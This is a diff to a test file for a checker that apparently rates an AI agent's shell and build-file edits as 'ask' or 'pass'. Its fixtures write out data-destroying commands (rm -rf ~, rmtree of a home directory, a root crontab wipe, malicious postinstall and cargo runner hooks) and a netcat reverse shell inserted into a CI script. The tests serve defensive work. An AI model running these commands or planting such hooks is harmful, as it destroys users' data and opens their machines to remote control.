@@ -97,6 +97,12 @@ describe('a build file asks about what it would run', () => {
       'build:\n  artifacts:\n    - custom: {buildCommand: rm -rf ~}\n',
       'build:\n  artifacts:\n    - custom: {buildCommand: make image}\n',
     ],
+    [
+      'justfile',
+      'x:\n  #!/usr/bin/env python3\n  import shutil\n  shutil.rmtree("/home/test")\n',
+      'x:\n  #!/usr/bin/env python3\n  print("/home/test")\n',
+    ],
+    ['.cargo/config.toml', 'runner = ["sh", "-c", "rm -rf ~"]\n', 'runner = ["qemu-arm", "-L", "/usr"]\n'],
     ['deploy/crontab', '* * * * * root rm -rf /home/test\n', '* * * * * root /srv/x.sh\n'],
     [
       '.vscode/settings.json',
@@ -117,6 +123,9 @@ describe('a shell command that edits such a file asks about what it puts in', ()
     [`sed -i 's/"test": "jest"/"test": "vitest"/' package.json`, 'pass'],
     [`yq -i '.a.script = "nc -e /bin/sh 203.0.113.9 1"' .gitlab-ci.yml`, 'ask'],
     [`yq -i '.a.script = "npm ci"' .gitlab-ci.yml`, 'pass'],
+    [`jq '.scripts += {"postinstall": "rm -rf ~"}' package.json | sponge package.json`, 'ask'],
+    [`node -e "p.scripts.postinstall='rm -rf ~';require('fs').writeFileSync('package.json',JSON.stringify(p))"`, 'ask'],
+    [`node -e "p.version='1.2.3';require('fs').writeFileSync('package.json',JSON.stringify(p))"`, 'pass'],
     [`sed -i '$ a rm -rf ~' .husky/pre-commit`, 'ask'],
     [`sed -i 's/18/20/' .github/workflows/ci.yml`, 'pass'],
   ])('%s', async (command, expected) => expect((await judgeCall('Bash', { command })).decision).toBe(expected))
